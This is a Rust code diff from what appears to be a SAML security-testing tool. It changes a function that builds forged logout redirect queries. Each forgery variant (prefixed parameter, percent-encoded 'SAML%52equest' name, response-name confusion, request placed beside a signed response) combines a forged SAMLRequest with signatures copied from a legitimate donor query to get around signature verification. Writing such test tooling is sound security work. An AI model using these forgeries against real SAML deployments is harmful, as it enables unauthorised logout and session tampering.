@@ -21,9 +21,20 @@ pub fn redirect_query(
     donors: LogoutDonors,
 ) -> Result<String, Skip> {
     let unsigned = saml_protocol::redirect::unsigned_query("SAMLRequest", xml, None);
-    let forged = unsigned.trim_start_matches("SAMLRequest=");
-    let signed_request = || pairs(donors.request, &["SAMLRequest", "SigAlg", "Signature"]);
-    let missing = || Skip::Failed("the IdP's signed donor query lacks a parameter".into());
+    let forged = unsigned.strip_prefix("SAMLRequest=").unwrap_or(&unsigned);
+    // The donor's signed parameters, in binding order (RelayState kept: it is signed too).
+    let signed = |query, message| {
+        let got = pairs(query, &[message, "RelayState", "SigAlg", "Signature"]);
+        for name in [message, "SigAlg", "Signature"] {
+            if !got.iter().any(|p| p.split('=').next() == Some(name)) {
+                return Err(Skip::Failed(format!(
+                    "the IdP's signed donor query has no {name}"
+                )));
+            }
+        }
+        Ok(got)
+    };
+    let signed_request = || signed(donors.request, "SAMLRequest");
     let join = |parts: Vec<String>| parts.join("&");
     match forgery {
         LogoutForgery::Unsigned => Ok(unsigned),
@@ -34,31 +45,33 @@ pub fn redirect_query(
         }
         LogoutForgery::ResponseNameConfusion => {
             let mut parts = vec![format!("SAMLResponse={forged}")];
-            parts.extend(signed_request().into_iter().map(str::to_owned));
+            parts.extend(signed_request()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
         LogoutForgery::PrefixedParameter => {
-            let signed = signed_request();
-            let (first, rest) = signed.split_first().ok_or_else(missing)?;
-            let mut parts = vec![format!("x{first}"), format!("SAMLRequest={forged}")];
-            parts.extend(rest.iter().map(|p| (*p).to_owned()));
+            let mut parts = Vec::new();
+            for pair in signed_request()? {
+                if pair.starts_with("SAMLRequest=") {
+                    parts.push(format!("x{pair}"));
+                    parts.push(format!("SAMLRequest={forged}"));
+                } else {
+                    parts.push(pair.to_owned());
+                }
+            }
             Ok(join(parts))
         }
         LogoutForgery::EncodedName => {
             let mut parts = vec![format!("SAML%52equest={forged}")];
-            parts.extend(signed_request().into_iter().map(str::to_owned));
+            parts.extend(signed_request()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
         LogoutForgery::RequestBesideResponse => {
             let mut parts = vec![format!("SAMLRequest={forged}")];
-            let signed = pairs(
-                donors.response,
-                &["SAMLResponse", "RelayState", "SigAlg", "Signature"],
+            parts.extend(
+                signed(donors.response, "SAMLResponse")?
+                    .into_iter()
+                    .map(str::to_owned),
             );
-            if signed.len() < 3 {
-                return Err(missing());
-            }
-            parts.extend(signed.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
     }
